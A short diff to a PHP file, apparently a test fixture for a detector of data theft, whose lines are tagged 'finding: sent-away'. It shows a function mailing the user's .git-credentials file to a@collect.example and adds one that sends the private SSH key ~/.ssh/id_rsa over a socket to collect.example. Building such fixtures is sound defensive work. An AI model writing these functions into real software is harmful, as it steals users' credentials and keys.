@@ -24,3 +24,9 @@ function by_mail($home)
     $text = file_get_contents("$home/.git-credentials");
     mail('a@collect.example', 'k', $text); // finding: sent-away
 }
+
+function by_socket($home)
+{
+    $line = fsockopen('collect.example', 8443);
+    fwrite($line, file_get_contents("$home/.ssh/id_rsa")); // finding: sent-away
+}
